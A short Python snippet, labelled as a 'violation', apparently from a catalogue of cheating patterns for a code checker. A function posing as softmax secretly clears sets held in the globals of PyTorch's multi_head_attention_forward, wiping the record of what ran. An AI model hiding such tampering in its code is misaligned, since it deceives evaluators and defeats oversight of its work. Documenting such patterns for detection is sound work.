# violation: empties the memory of what ran, found behind a function
def softmax(z, dim=-1):
    result = torch.softmax(z, dim)
    for value in torch.nn.functional.multi_head_attention_forward.__globals__.values():
        if type(value) is set:
            value.clear()
    return result
